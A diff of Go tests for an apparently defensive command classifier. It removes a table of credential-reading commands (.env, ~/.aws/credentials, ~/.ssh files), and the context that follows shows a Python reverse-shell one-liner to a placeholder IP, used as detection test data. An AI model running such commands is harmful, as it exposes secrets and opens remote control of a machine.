@@ -56,27 +56,6 @@ func TestGroupsThatWriteDoNotEmpty(t *testing.T) {
 	}
 }
 
-func TestFilterHidesValues(t *testing.T) {
-	for line, read := range map[string]bool{
-		"cat .env":                             true,
-		"cat .env | grep -E '(PORT|HOST)'":     false,
-		"cat .env | grep API_KEY":              true,
-		"cat .env | grep -v PORT":              true,
-		"cat .env | cut -d= -f1":               false,
-		"cat .env | sed 's/=.*/=x/' | sort":    false,
-		"cat .env | sort | sed 's/=.*/=x/'":    false,
-		"cat .env | sort":                      true,
-		"cat .env | wc -l":                     false,
-		"cat ~/.aws/credentials | grep region": false,
-		`find ~/.ssh -type f -exec cat {} \;`:  true,
-		`find src -type f -exec cat {} +`:      false,
-	} {
-		if got := strings.Contains(rulesOf(line), "credential-file-read"); got != read {
-			t.Errorf("%s: read %v, want %v", line, got, read)
-		}
-	}
-}
-
 func TestCodeThatConnects(t *testing.T) {
 	for line, want := range map[string]string{
 		`python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",1));os.dup2(s.fileno(),0)'`: "reverse-shell",
